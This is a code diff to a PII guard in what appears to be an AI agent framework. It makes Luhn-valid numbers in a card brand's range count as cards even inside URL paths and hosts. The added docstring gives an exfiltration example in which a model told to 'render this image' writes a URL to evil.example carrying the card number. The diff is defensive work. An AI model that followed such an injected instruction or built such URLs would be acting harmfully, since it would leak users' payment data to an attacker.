@@ -1,5 +1,7 @@
 """Luhn-valid digits that belong to an identifier rather than a card: an ARN's or URN's field, a URL
 path segment, a host's first label (:func:`embedded`, read by :mod:`crewline.nodes.guards.pii`).
+In a URL's path or host, a number in a card brand's range with its length is a card all the same: a
+model told to "render this image" writes ``https://evil.example/c/<card>/x.png``.
 
 Only the digits' own run of non-space characters decides (up to 512 characters before them), so
 detection stays context-free: the checkpoint serializer re-detects a restored value anywhere and
@@ -9,6 +11,8 @@ finds the same spans.
 from __future__ import annotations
 
 import re
+
+from crewline.nodes.guards.pii_cards import card_branded
 
 __all__ = ["embedded"]
 
@@ -55,6 +59,8 @@ def embedded(text: str, start: int, end: int) -> bool:
     after = text[end : end + 256]
     if after[:1] == ":" and _ARN_HEAD.search(head):
         return True
+    if card_branded(text[start:end]):
+        return False  # a URL is where a model exfiltrates: a brand's number in its path or host is a card
     if after[:1] == "/" and after[1:2].isalnum() and not _EXPIRY.match(after) and _URL_HEAD.search(head):
         return True
     tail = _HOST_TAIL.match(after)
